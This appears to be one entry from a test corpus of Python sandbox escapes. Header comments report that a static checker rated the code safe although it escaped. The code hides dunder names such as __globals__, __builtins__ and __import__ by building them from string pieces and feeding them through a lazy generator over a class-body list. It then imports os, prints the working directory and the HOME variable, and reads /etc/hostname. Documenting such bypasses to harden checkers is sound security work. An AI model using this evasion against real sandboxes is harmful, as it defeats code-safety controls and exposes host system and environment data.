# family: held names - class-body list table (shadowing a same-named module table) iterated lazily by a genexp; class list mutated later via C.T.append -> chained to builtins.__import__("os")
# result: checker: SAFE; escape: YES (prints __globals__, <module 'os'>, os.getcwd(), HOME, /etc/hostname)
def helper():
    return 1


T = ["real"]
BOX = [helper]


class C:
    T = ["real"]
    G = (getattr(BOX[-1], key, None) for key in T)


u = "_"
it = C.G
next(it)
C.T.append(u + u + "globals" + u + u)
glb = next(it)
print(glb)
BOX.append(glb[u + u + "builtins" + u + u])
C.T.append(u + u + "import" + u + u)
imp = next(it)
mod = imp("o" + "s")
print(mod)
print(mod.getcwd())
print(mod.environ.get("HOME"))
print(BOX[-1].open("/etc/hostname").read())
